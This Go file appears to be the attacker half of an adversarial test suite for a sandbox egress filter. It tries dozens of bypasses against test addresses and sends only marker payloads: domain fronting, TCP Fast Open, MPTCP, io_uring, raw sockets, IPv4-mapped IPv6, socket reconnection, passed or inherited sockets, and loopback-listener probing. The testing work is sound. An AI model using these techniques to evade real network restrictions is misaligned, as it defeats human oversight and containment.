package adversarial

// The attacker's side of the egress rows (egress_test.go): each attack
// reports what the kernel or the relay said; the servers judge.

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// egressTarget is the world as the attacker gets it (ADV_ARG).
type egressTarget struct {
	cdn, dns, dark, host netip.Addr
	port                 int
	cdn6, dark6          netip.Addr
	extra                string
}

func loadEgressTarget() (egressTarget, error) {
	f := strings.Fields(os.Getenv("ADV_ARG"))
	if len(f) < 7 {
		return egressTarget{}, fmt.Errorf("ADV_ARG %q", os.Getenv("ADV_ARG"))
	}
	var g egressTarget
	var err error
	for i, p := range []*netip.Addr{&g.cdn, &g.dns, &g.dark, &g.host} {
		if *p, err = netip.ParseAddr(f[i]); err != nil {
			return g, err
		}
	}
	if g.port, err = strconv.Atoi(f[4]); err != nil {
		return g, err
	}
	for i, p := range []*netip.Addr{&g.cdn6, &g.dark6} {
		if *p, err = netip.ParseAddr(f[5+i]); err != nil {
			return g, err
		}
	}
	if len(f) > 7 {
		g.extra = f[7]
	}
	return g, nil
}

// resolveCDN asks the proxy (any :53 is redirected to it) for a.cdn.test,
// which admits the CDN's address for the sandbox.
func resolveCDN(g egressTarget) error {
	r := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, "udp4", netip.AddrPortFrom(g.dns, 53).String())
	}}
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	addrs, err := r.LookupHost(ctx, cdnName)
	if err != nil {
		return fmt.Errorf("resolve %s: %w", cdnName, err)
	}
	for _, a := range addrs {
		if a == g.cdn.String() {
			fmt.Printf("RESOLVED %s %v\n", cdnName, addrs)
			if !slices.Contains(addrs, g.cdn6.String()) {
				return fmt.Errorf("resolve %s: %v, not the CDN's IPv6 %s", cdnName, addrs, g.cdn6)
			}
			return nil
		}
	}
	return fmt.Errorf("resolve %s: %v, not the CDN %s", cdnName, addrs, g.cdn)
}

// ruled is the address the sandbox's egress.allow names (the world's .5).
func (g egressTarget) ruled() netip.Addr {
	b := g.cdn.As4()
	b[3] = 5
	return netip.AddrFrom4(b)
}

func sa4(a netip.Addr, port int) *unix.SockaddrInet4 {
	return &unix.SockaddrInet4{Port: port, Addr: a.As4()}
}

func sa6(a netip.Addr, port int) *unix.SockaddrInet6 {
	return &unix.SockaddrInet6{Port: port, Addr: a.As16()} // IPv4 as ::ffff:a.b.c.d
}

func httpGet(host string) []byte {
	return []byte("GET / HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n")
}

// readAnswer reads what the peer (the server, or the relay in front of it)
// says within 5 s. A close without a word is the relay's refusal as the
// client sees it: reported as ECONNRESET.
func readAnswer(fd int) error {
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 5})
	var got []byte
	buf := make([]byte, 4096)
	for {
		n, err := unix.Read(fd, buf)
		if n > 0 {
			got = append(got, buf[:n]...)
			continue
		}
		if len(got) > 0 {
			fmt.Printf("ANSWER %q\n", got)
			if strings.HasPrefix(string(got), "HTTP/1.1 403 Forbidden\r\n") && strings.Contains(string(got), "\r\n\r\nwatcher: ") {
				fmt.Println("RELAY-REFUSED (the relay's 403, reported as EACCES)")
				return syscall.EACCES
			}
			return nil
		}
		if err != nil {
			return err
		}
		fmt.Println("CLOSED without an answer (reported as ECONNRESET)")
		return syscall.ECONNRESET
	}
}

// connectSend connects fd to sa, writes data and reads the answer.
func connectSend(fd int, sa unix.Sockaddr, data []byte) error {
	if err := unix.Connect(fd, sa); err != nil {
		fmt.Println("connect:", err)
		return err
	}
	if _, err := unix.Write(fd, data); err != nil {
		fmt.Println("write:", err)
		return err
	}
	return readAnswer(fd)
}

// withTarget wraps an attack that needs the world and (resolve) the CDN's
// admission first.
func withTarget(resolve bool, f func(g egressTarget) error) func(attackEnv, string) error {
	return func(attackEnv, string) error {
		g, err := loadEgressTarget()
		if err != nil {
			return err
		}
		if resolve {
			if err := resolveCDN(g); err != nil {
				return err
			}
		}
		return f(g)
	}
}

func tcpTo(family int, sa unix.Sockaddr, data []byte) error {
	fd, err := unix.Socket(family, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	return connectSend(fd, sa, data)
}

func tfoSendto(sa unix.Sockaddr, host string) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := unix.Sendto(fd, httpGet(host), unix.MSG_FASTOPEN, sa); err != nil {
		fmt.Println("sendto MSG_FASTOPEN:", err)
		return err
	}
	return readAnswer(fd)
}

func tfoConnect(sa unix.Sockaddr, host string) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := unix.SetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_FASTOPEN_CONNECT, 1); err != nil {
		return err
	}
	return connectSend(fd, sa, httpGet(host))
}

func mptcpTo(sa unix.Sockaddr, host string) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_MPTCP)
	if err != nil {
		fmt.Println("socket(IPPROTO_MPTCP):", err)
		return err
	}
	defer unix.Close(fd)
	return connectSend(fd, sa, httpGet(host))
}

// disconnect is connect(AF_UNSPEC): the socket may connect again.
func disconnect(fd int) error {
	var sa [16]byte // sa_family 0
	_, _, e := unix.Syscall(unix.SYS_CONNECT, uintptr(fd), uintptr(unsafe.Pointer(&sa[0])), unsafe.Sizeof(sa))
	if e != 0 {
		return e
	}
	return nil
}

func reconnect(first, second unix.Sockaddr, data []byte) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := unix.Connect(fd, first); err != nil {
		return fmt.Errorf("first connect: %w", err)
	}
	if err := disconnect(fd); err != nil {
		return fmt.Errorf("AF_UNSPEC: %w", err)
	}
	fmt.Println("DISCONNECTED")
	return connectSend(fd, second, data)
}

func dnsQuery() []byte {
	q := []byte{0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, l := range strings.Split(cdnName, ".") {
		q = append(q, byte(len(l)))
		q = append(q, l...)
	}
	return append(q, 0, 0, 1, 0, 1)
}

// rawSockaddr4 is a struct sockaddr_in for sendmmsg's headers.
func rawSockaddr4(a netip.Addr, port int) *unix.RawSockaddrInet4 {
	rsa := &unix.RawSockaddrInet4{Family: unix.AF_INET, Addr: a.As4()}
	p := (*[2]byte)(unsafe.Pointer(&rsa.Port))
	p[0], p[1] = byte(port>>8), byte(port)
	return rsa
}

func sendmmsgDark(g egressTarget) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	payloads := [][]byte{dnsQuery(), []byte("SENDMMSG-LEAK")}
	names := []*unix.RawSockaddrInet4{rawSockaddr4(g.dns, 53), rawSockaddr4(g.dark, egressDarkUDPPort)}
	iovs := make([]unix.Iovec, 2)
	msgs := make([]unix.Mmsghdr, 2)
	for i := range msgs {
		iovs[i].Base = &payloads[i][0]
		iovs[i].SetLen(len(payloads[i]))
		msgs[i].Hdr.Name = (*byte)(unsafe.Pointer(names[i]))
		msgs[i].Hdr.Namelen = unix.SizeofSockaddrInet4
		msgs[i].Hdr.Iov = &iovs[i]
		msgs[i].Hdr.Iovlen = 1
	}
	sent := 0
	for sent < len(msgs) {
		n, _, e := unix.Syscall6(unix.SYS_SENDMMSG, uintptr(fd), uintptr(unsafe.Pointer(&msgs[sent])), uintptr(len(msgs)-sent), 0, 0, 0)
		fmt.Printf("sendmmsg from %d: %d, %v\n", sent, int(n), e)
		if e != 0 {
			return e
		}
		sent += int(n)
	}
	return nil
}

func rawUDPDark(g egressTarget) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_UDP)
	if err != nil {
		fmt.Println("socket(SOCK_RAW):", err)
		return err
	}
	defer unix.Close(fd)
	payload := []byte("RAW-LEAK")
	pkt := make([]byte, 8+len(payload))
	pkt[0], pkt[1] = 0x9c, 0x40 // source port 40000
	pkt[2], pkt[3] = byte(egressDarkUDPPort>>8), byte(egressDarkUDPPort&0xff)
	pkt[4], pkt[5] = 0, byte(len(pkt)) // checksum 0: none (IPv4)
	copy(pkt[8:], payload)
	return unix.Sendto(fd, pkt, 0, sa4(g.dark, 0))
}

func socketMade(family, typ, proto int) error {
	fd, err := unix.Socket(family, typ, proto)
	if err != nil {
		return err
	}
	unix.Close(fd)
	fmt.Println("SOCKET-MADE")
	return nil
}

// tlsTo speaks HTTPS to the CDN: sni in the ClientHello, host in the
// request inside.
func tlsTo(g egressTarget, sni, host string) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	if err := unix.Connect(fd, sa4(g.cdn, 443)); err != nil {
		unix.Close(fd)
		return err
	}
	f := os.NewFile(uintptr(fd), "tls")
	defer f.Close()
	c, err := net.FileConn(f)
	if err != nil {
		return err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(10 * time.Second))
	tc := tls.Client(c, &tls.Config{ServerName: sni, InsecureSkipVerify: true})
	if err := tc.Handshake(); err != nil {
		fmt.Println("handshake:", err)
		if strings.Contains(err.Error(), "remote error: tls: access denied") { // the relay's refusal
			fmt.Println("RELAY-REFUSED (TLS alert access_denied, reported as EACCES)")
			return syscall.EACCES
		}
		if errors.Is(err, io.EOF) || errors.Is(err, syscall.ECONNRESET) {
			return syscall.ECONNRESET
		}
		return err
	}
	tc.Write(httpGet(host))
	ans, _ := io.ReadAll(tc)
	fmt.Printf("ANSWER %q\n", ans)
	return nil
}

// loopbackListeners connects every TCP listener on 127.0.0.1 the host has
// (the agent's relay and DNS proxy among them). Only the proxy's port (the
// extra field of ADV_ARG) may answer: TCP to it is DNS, not a way out.
func loopbackListeners(g egressTarget) error {
	data, err := os.ReadFile("/proc/net/tcp")
	if err != nil {
		return err
	}
	var firstErr error
	tried := 0
	for _, l := range strings.Split(string(data), "\n")[1:] {
		f := strings.Fields(l)
		// local_address 0100007F:PORT, st 0A (LISTEN)
		if len(f) < 4 || f[3] != "0A" || !strings.HasPrefix(f[1], "0100007F:") {
			continue
		}
		port, err := strconv.ParseUint(strings.TrimPrefix(f[1], "0100007F:"), 16, 16)
		if err != nil {
			continue
		}
		tried++
		err = tcpTo(unix.AF_INET, sa4(netip.AddrFrom4([4]byte{127, 0, 0, 1}), int(port)), httpGet(frontedName))
		fmt.Printf("127.0.0.1:%d: %v\n", port, err)
		switch {
		case err == nil || errors.Is(err, syscall.EACCES) || errors.Is(err, syscall.ECONNRESET) || errors.Is(err, syscall.EAGAIN):
			if strconv.Itoa(int(port)) != g.extra {
				fmt.Println("LOOPBACK-CONNECTED", port)
			}
		case firstErr == nil:
			firstErr = err
		}
	}
	fmt.Printf("tried %d listeners\n", tried)
	if tried == 0 {
		return errors.New("no listener on 127.0.0.1")
	}
	return firstErr
}

// receivedSocket is a socket received by SCM_RIGHTS on the unix socket at
// path.
func receivedSocket(path string) (int, error) {
	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_STREAM, 0)
	if err != nil {
		return -1, err
	}
	defer unix.Close(fd)
	if err := unix.Connect(fd, &unix.SockaddrUnix{Name: path}); err != nil {
		return -1, fmt.Errorf("connect %s: %w", path, err)
	}
	oob := make([]byte, unix.CmsgSpace(4))
	buf := make([]byte, 8)
	_, oobn, _, _, err := unix.Recvmsg(fd, buf, oob, 0)
	if err != nil {
		return -1, err
	}
	msgs, err := unix.ParseSocketControlMessage(oob[:oobn])
	if err != nil || len(msgs) == 0 {
		return -1, fmt.Errorf("no descriptor: %v", err)
	}
	fds, err := unix.ParseUnixRights(&msgs[0])
	if err != nil || len(fds) == 0 {
		return -1, fmt.Errorf("no descriptor: %v", err)
	}
	return fds[0], nil
}

func init() {
	a := map[string]func(attackEnv, string) error{
		"egress-tls-fronted":    withTarget(true, func(g egressTarget) error { return tlsTo(g, frontedName, frontedName) }),
		"egress-benign-tls":     withTarget(true, func(g egressTarget) error { return tlsTo(g, cdnName, cdnName) }),
		"egress-tls-inner-host": withTarget(true, func(g egressTarget) error { return tlsTo(g, cdnName, frontedName) }),
		"egress-http-absolute-form": withTarget(true, func(g egressTarget) error {
			return tcpTo(unix.AF_INET, sa4(g.cdn, 80), []byte("GET http://"+frontedName+"/ HTTP/1.1\r\nHost: "+cdnName+"\r\nConnection: close\r\n\r\n"))
		}),
		"egress-http-no-host": withTarget(true, func(g egressTarget) error {
			return tcpTo(unix.AF_INET, sa4(g.cdn, 80), []byte("GET / HTTP/1.0\r\n\r\n"))
		}),
		"egress-tfo-sendto-fronted": withTarget(true, func(g egressTarget) error {
			return tfoSendto(sa4(g.cdn, 80), frontedName)
		}),
		"egress-tfo-sendto-dark":   withTarget(true, func(g egressTarget) error { return tfoSendto(sa4(g.dark, 80), cdnName) }),
		"egress-benign-tfo-sendto": withTarget(true, func(g egressTarget) error { return tfoSendto(sa4(g.cdn, 80), cdnName) }),
		"egress-tfo-connect-fronted": withTarget(true, func(g egressTarget) error {
			return tfoConnect(sa4(g.cdn, 80), frontedName)
		}),
		"egress-tfo-connect-dark":   withTarget(true, func(g egressTarget) error { return tfoConnect(sa4(g.dark, 80), cdnName) }),
		"egress-benign-tfo-connect": withTarget(true, func(g egressTarget) error { return tfoConnect(sa4(g.cdn, 80), cdnName) }),
		"egress-iouring-connect": withTarget(true, func(g egressTarget) error {
			var params [120]byte // struct io_uring_params
			fd, _, e := unix.Syscall(unix.SYS_IO_URING_SETUP, 4, uintptr(unsafe.Pointer(&params[0])), 0)
			if e != 0 {
				fmt.Println("io_uring_setup:", e)
				return e
			}
			unix.Close(int(fd))
			fmt.Println("RING-MADE (IORING_OP_CONNECT not tried: the row wants the ring refused)")
			return nil
		}),
		"egress-mptcp-fronted": withTarget(true, func(g egressTarget) error { return mptcpTo(sa4(g.cdn, 80), frontedName) }),
		"egress-mptcp-dark":    withTarget(true, func(g egressTarget) error { return mptcpTo(sa4(g.dark, 80), cdnName) }),
		"egress-benign-mptcp":  withTarget(true, func(g egressTarget) error { return mptcpTo(sa4(g.cdn, 80), cdnName) }),
		"egress-resolve":       withTarget(true, func(egressTarget) error { return nil }),
		"egress-udp-altport-cdn": withTarget(true, func(g egressTarget) error {
			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
			if err != nil {
				return err
			}
			defer unix.Close(fd)
			return unix.Sendto(fd, []byte("QUIC-ALT-PORT"), 0, sa4(g.cdn, egressCDNUDPPort))
		}),
		"egress-quic-cdn": withTarget(true, func(g egressTarget) error {
			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
			if err != nil {
				return err
			}
			defer unix.Close(fd)
			return unix.Sendto(fd, []byte("QUIC-INITIAL"), 0, sa4(g.cdn, 443))
		}),
		"egress-ping-socket": func(attackEnv, string) error {
			err := socketMade(unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP)
			if r, _ := os.ReadFile("/proc/sys/net/ipv4/ping_group_range"); errors.Is(err, unix.EACCES) {
				// The kernel refuses before sock_create runs: nothing
				// for watcher to judge here (internal/enforce/cgroupbpf
				// TestPingSockets opens the range and shows the hook).
				return fmt.Errorf("%w: ping sockets are off on this host (net.ipv4.ping_group_range %s): EACCES before the hook",
					errNotApplicable, strings.TrimSpace(string(r)))
			}
			return err
		},
		"egress-netns-fronted": withTarget(false, func(g egressTarget) error {
			return tcpTo(unix.AF_INET, sa4(g.cdn, 80), httpGet(frontedName))
		}),
		"egress-benign-netns-rule": withTarget(false, func(g egressTarget) error {
			return tcpTo(unix.AF_INET, sa4(g.ruled(), 80), []byte("RULED\n"))
		}),
		"egress-sctp-dark": withTarget(true, func(g egressTarget) error {
			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_SCTP)
			if errors.Is(err, unix.EPROTONOSUPPORT) || errors.Is(err, unix.ESOCKTNOSUPPORT) {
				return fmt.Errorf("%w: no SCTP in this kernel (socket: %v)", errNotApplicable, err)
			}
			if err != nil {
				return err
			}
			defer unix.Close(fd)
			// No SCTP server listens there: an ABORT (ECONNREFUSED) is
			// the address answering.
			err = unix.Connect(fd, sa4(g.dark, 80))
			if err == nil || errors.Is(err, unix.ECONNREFUSED) {
				fmt.Println("SCTP-REACHED", err)
				return nil
			}
			return err
		}),
		"egress-v4mapped-fronted": withTarget(true, func(g egressTarget) error { return tcpTo(unix.AF_INET6, sa6(g.cdn, 80), httpGet(frontedName)) }),
		"egress-v4mapped-dark":    withTarget(true, func(g egressTarget) error { return tcpTo(unix.AF_INET6, sa6(g.dark, 80), httpGet(cdnName)) }),
		"egress-benign-v4mapped":  withTarget(true, func(g egressTarget) error { return tcpTo(unix.AF_INET6, sa6(g.cdn, 80), httpGet(cdnName)) }),
		"egress-v6-fronted":       withTarget(true, func(g egressTarget) error { return tcpTo(unix.AF_INET6, sa6(g.cdn6, 80), httpGet(frontedName)) }),
		"egress-v6-dark":          withTarget(true, func(g egressTarget) error { return tcpTo(unix.AF_INET6, sa6(g.dark6, 80), httpGet(cdnName)) }),
		"egress-benign-v6":        withTarget(true, func(g egressTarget) error { return tcpTo(unix.AF_INET6, sa6(g.cdn6, 80), httpGet(cdnName)) }),
		"egress-connect-any4": withTarget(false, func(g egressTarget) error {
			return tcpTo(unix.AF_INET, sa4(netip.IPv4Unspecified(), g.port), []byte("HELLO\n"))
		}),
		"egress-connect-any6": withTarget(false, func(g egressTarget) error {
			return tcpTo(unix.AF_INET6, sa6(netip.IPv6Unspecified(), g.port), []byte("HELLO\n"))
		}),
		"egress-connect-hostaddr": withTarget(false, func(g egressTarget) error {
			return tcpTo(unix.AF_INET, sa4(g.host, g.port), []byte("HELLO\n"))
		}),
		"egress-loopback-listeners": withTarget(true, loopbackListeners),
		"egress-reconnect-unspec-dark": withTarget(true, func(g egressTarget) error {
			return reconnect(sa4(g.cdn, 80), sa4(g.dark, 80), []byte("HELLO\n"))
		}),
		"egress-benign-reconnect-unspec": withTarget(true, func(g egressTarget) error {
			return reconnect(sa4(g.cdn, 80), sa4(g.cdn, 80), httpGet(cdnName))
		}),
		"egress-udp-msgname-dark": withTarget(true, func(g egressTarget) error {
			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
			if err != nil {
				return err
			}
			defer unix.Close(fd)
			if err := unix.Connect(fd, sa4(g.dns, 53)); err != nil {
				return fmt.Errorf("connect :53: %w", err)
			}
			_, err = unix.SendmsgN(fd, []byte("MSGNAME-LEAK"), nil, sa4(g.dark, egressDarkUDPPort), 0)
			fmt.Println("sendmsg with msg_name:", err)
			return err
		}),
		"egress-sendmmsg-dark": withTarget(true, sendmmsgDark),
		"egress-benign-udp-dns": withTarget(true, func(g egressTarget) error {
			return tcpTo(unix.AF_INET, sa4(g.cdn, 80), httpGet(cdnName))
		}),
		"egress-inherited-socket-dark": withTarget(true, func(g egressTarget) error {
			return connectSend(3, sa4(g.dark, 80), []byte("INHERITED\n"))
		}),
		"egress-scm-rights-fronted": withTarget(true, func(g egressTarget) error {
			fd, err := receivedSocket(g.extra)
			if err != nil {
				return err
			}
			defer unix.Close(fd)
			return connectSend(fd, sa4(g.cdn, 80), httpGet(frontedName))
		}),
		"egress-raw-udp-dark": withTarget(true, rawUDPDark),
		"egress-raw6-socket":  func(attackEnv, string) error { return socketMade(unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_TCP) },
		"egress-packet-dgram": func(attackEnv, string) error {
			return socketMade(unix.AF_PACKET, unix.SOCK_DGRAM, 0x0008 /* htons(ETH_P_IP) */)
		},
	}
	for name, f := range a {
		attacks[name] = f
	}
}
